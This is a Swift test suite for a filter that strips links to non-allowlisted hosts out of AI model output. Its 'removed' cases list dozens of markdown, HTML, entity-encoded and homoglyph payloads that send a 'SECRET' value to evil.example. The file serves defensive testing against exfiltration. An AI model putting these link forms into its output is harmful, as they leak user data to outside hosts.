import TestKit
import Testing

@testable import Enforcement

@Suite("Links in what a model says")
struct ModelLinksTests {
    static let links = ModelLinks(hosts: ["docs.example.com", "*.trusted.example"])

    static func rewritten(_ text: String) -> String {
        Self.links.rewrite(whole: Array(text.utf8)).map { String(decoding: $0.text, as: UTF8.self) } ?? text
    }

    @Test(
        "that lead elsewhere are taken out, however they are written",
        arguments: [
            "![a](https://evil.example/?d=SECRET)", "![](https://evil.example/SECRET.png \"t\")",
            "[b](http://evil.example/SECRET)",
            "![a]( https://evil.example/SECRET )", "![a](<https://evil.example/SECRET x>)",
            "![a](//evil.example/SECRET)",
            "![a](\\/\\/evil.example/SECRET)", "![a](https\\://evil.example/SECRET)", "![a](HtTpS:evil.example/SECRET)",
            "![a](https:\\\\evil.example\\SECRET)", "![a](&#104;ttps://evil.example/SECRET)",
            "![a](https&colon;//evil.example/SECRET)",
            "![a](https&#58;//evil.example/SECRET)", "![a](https&#x3a;&sol;&sol;evil.example/SECRET)",
            "![a](https://docs.example.com@evil.example/SECRET)", "![a](https://docs.example.com.evil.example/SECRET)",
            "![a](https://eviltrusted.example/SECRET)", "![a](https://evil.example:443/(x)/SECRET)",
            "![a](javascript:x('SECRET'))",
            "![a](data:image/svg+xml,SECRET)", "[a](mailto:x@evil.example?body=SECRET)",
            "![a][r]\n\n[r]: https://evil.example/SECRET",
            "[r]:\n  //evil.example/SECRET 't'", "[r]: <https://evil.example/SECRET>", "<https://evil.example/SECRET>",
            "<img src=https://evil.example/SECRET>", "<IMG alt='x' SRC = \"https://evil.example/SECRET\">",
            "<img src='//evil.example/SECRET'>", "<img src=\"ht\ntps://evil.example/SECRET\">",
            "<img src=\"&#x68;ttps://evil.example/SECRET\">",
            "<a href=\"https:/evil.example/SECRET\">x</a>", "<p style=\"background:url(//evil.example/SECRET)\">",
            "<img srcset='https://evil.example/SECRET 2x'>",
            "see https://evil.example/SECRET.png",
            "see www.evil.example/SECRET", "x https://evil.example/a?b=SECRET&c",
            "![a](https://docs.example.c%6Fm/SECRET)",
            "![a](https://d\u{043E}cs.example.com/SECRET)", "<img src=\"/\t/evil.example/SECRET\">",
            "[a]: ftp://evil.example/SECRET",
        ])
    func removed(text: String) {
        let result = Self.rewritten(text)
        #expect(!result.contains("SECRET"), "\(result)")
        #expect(result.contains("link-removed"), "\(result)")
    }

    @Test("in a tag that does not end: what is around the text shall not end it")
    func brokenTag() {
        #expect(Self.rewritten("<img src='//evil.example/x") == "< img src='//evil.example/x")
    }

    @Test(
        "that lead where policy says, and texts that only look like some, stay",
        arguments: [
            "[a](https://docs.example.com/x?y=z)", "![a](https://a.b.trusted.example/c.png)",
            "<https://docs.example.com/x>",
            "[a](/local/path)", "[a](#part)", "[a](page.html)", "a[0](x)", "x: [1]: 2", "if a <b and c> d",
            "1 < 2 and 3 > 2",
            "http is a protocol", "https: the rest", "www", "[x] (y)", "<b>bold</b>", "<br/>",
            "Dictionary<String, Int>",
            "a ratio of 3:4, at 10:30", "![a](data:image/png;base64,AAAA)", "let x = a[i](b)", "[r]: /local",
            "<a href=\"https://docs.example.com/\">x</a>", "std::vector<int> v;", "e.g. C:\\temp",
            "see docs.example.com",
        ])
    func kept(text: String) {
        #expect(Self.rewritten(text) == text)
    }

    @Test("come to the same in whatever pieces the text comes", arguments: 0..<20)
    func pieces(seed: Int) {
        var random = SeededGenerator(seed: UInt64(seed))
        let parts = [
            "![a](https://evil.example/x)", "[b](https://docs.example.com/y)", "<img src='//evil.example'>", "<", ">",
            "](", "]:", "https",
            "://", "www.", " ", "\n", "word", "&colon;//evil.example", "(", ")", "\\", "\"", "'", "=", "<a href=", "é",
            "[", "http://e",
        ]
        for _ in 0..<200 {
            let text = (0..<random.below(14)).flatMap { _ in Array(parts[random.below(parts.count)].utf8) }
            var whole: [UInt8] = []
            _ = Self.links.rewrite(text, isFinal: true, into: &whole)
            var links = DeltaLinks(Self.links)
            var output: [UInt8] = []
            var place = 0
            while place < text.count {
                let end = min(text.count, place + 1 + random.below(5))
                links.take(Array(text[place..<end]), isFinal: false, into: &output)
                place = end
            }
            links.take([], isFinal: true, into: &output)
            #expect(output == whole, "\(String(decoding: text, as: UTF8.self).debugDescription)")
        }
    }

    @Test("that do not end are no way to hold up or to slow down a stream")
    func endless() {
        for beginning in ["![a](", "<img a=", "https://", "]: <", "<a "] {
            var links = DeltaLinks(Self.links)
            var output: [UInt8] = []
            for _ in 0..<4_000 { links.take(Array("xxxxxxxxxx".utf8), isFinal: false, into: &output) }
            links.take(Array(beginning.utf8), isFinal: false, into: &output)
            for _ in 0..<2_000 { links.take(Array("yyyyyyyyyy".utf8), isFinal: false, into: &output) }
            #expect(output.count > 50_000, "\(beginning)")
        }
    }
}
